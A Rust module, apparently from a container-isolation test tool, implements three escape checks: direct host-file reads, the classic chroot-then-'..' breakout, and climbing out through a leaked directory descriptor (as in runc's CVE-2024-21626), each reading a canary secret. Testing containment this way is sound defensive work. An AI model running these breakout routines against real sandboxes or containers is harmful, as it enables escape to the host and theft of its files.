//! Attacks on the root directory: what is in reach of a path.

use std::fs::File;
use std::io::Read;
use std::os::fd::{AsFd, BorrowedFd, RawFd};
use std::path::{Path, PathBuf};

use nix::errno::Errno;
use nix::fcntl::{OFlag, openat};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot};
use process::{Call, Result};

use crate::outcome::{Finding, Outcome};
use crate::spec::{SECRET_LENGTH, Spec};

/// More than any directory is deep. The root directory is its own parent, so
/// to go up too often does no harm.
const DEPTH: usize = 64;

/// The lowest and the highest descriptor that a caller is likely to leak.
const DESCRIPTORS: std::ops::Range<RawFd> = 3..1024;

/// Reads a file of the host by its path: path_resolution(7).
///
/// No trick at all. It succeeds wherever a "container" has the root directory
/// of its host.
pub(crate) fn read_host_file(canary: &Spec) -> Result<Finding> {
    let path: PathBuf = canary.get("file")?;
    canary.judge(&read_secret(&path)?, path.display())
}

/// Moves the root directory below the working directory, then walks up:
/// chroot(2), NOTES.
///
/// `..` is stopped at the root directory and nowhere else. chroot(2) does not
/// move the working directory, so a process that may call it once more stands
/// outside its new root, and nothing stops it on the way to the real one. It
/// is as old as chroot(2), and the reason why jail(2) and pivot_root(2) exist.
pub(crate) fn chroot_breakout(canary: &Spec) -> Result<Finding> {
    let path: PathBuf = canary.get("file")?;
    let below = canary.inside()?;
    chdir("/").call("chdir(\"/\")")?;
    chroot(&below).call(format_args!("chroot({below:?})"))?;
    for _ in 0..DEPTH {
        chdir("..").call("chdir(\"..\")")?;
    }
    // Paths that begin with `/` are still resolved below `below`.
    chroot(".").call("chroot(\".\")")?;
    canary.judge(
        &read_secret(&path)?,
        format_args!("{}, by chroot({below:?}) and ..", path.display()),
    )
}

/// Climbs out through a directory that is open already: openat(2).
///
/// An open directory is a place to start from, wherever the root directory
/// is. runc leaked one to its containers in 2024 (CVE-2024-21626, "leaky
/// vessels"): `/proc/self/fd/7/../../..` was the host.
pub(crate) fn inherited_fd(canary: &Spec) -> Result<Finding> {
    let path: PathBuf = canary.get("file")?;
    let mut climb = PathBuf::from("../".repeat(DEPTH));
    climb.push(path.strip_prefix("/").unwrap_or(&path));

    let mut answers = Vec::new();
    for fd in DESCRIPTORS {
        match open_from(fd, &climb) {
            Ok(mut file) => {
                let place = format!("{}, from descriptor {fd}", path.display());
                return canary.judge(&read_from(&mut file, &path)?, place);
            }
            // Not open, or no directory.
            Err(Errno::EBADF | Errno::ENOTDIR) => {}
            Err(errno) => answers.push(format!("openat({fd}): {errno}")),
        }
    }
    if answers.is_empty() {
        answers.push("openat(3 to 1023): EBADF: no directory is open".into());
    }
    Ok((Outcome::Contained, answers.join("; ")))
}

fn open_from(fd: RawFd, path: &Path) -> nix::Result<File> {
    // SAFETY: a borrowed descriptor must stay open while it is in use. This
    // process has one thread, which closes none between here and the call.
    // If the number stands for nothing, the kernel answers EBADF.
    let directory = unsafe { BorrowedFd::borrow_raw(fd) };
    let flags = OFlag::O_RDONLY | OFlag::O_CLOEXEC;
    openat(directory.as_fd(), path, flags, Mode::empty()).map(File::from)
}

/// The start of the file, as much as the secret is long.
pub(crate) fn read_secret(path: &Path) -> Result<Vec<u8>> {
    let mut file = File::open(path).call(format_args!("open({path:?})"))?;
    read_from(&mut file, path)
}

/// The same, for a file that is open.
pub(crate) fn read_from(file: &mut File, path: &Path) -> Result<Vec<u8>> {
    let mut bytes = Vec::new();
    file.take(SECRET_LENGTH as u64)
        .read_to_end(&mut bytes)
        .call(format_args!("read({path:?})"))?;
    Ok(bytes)
}
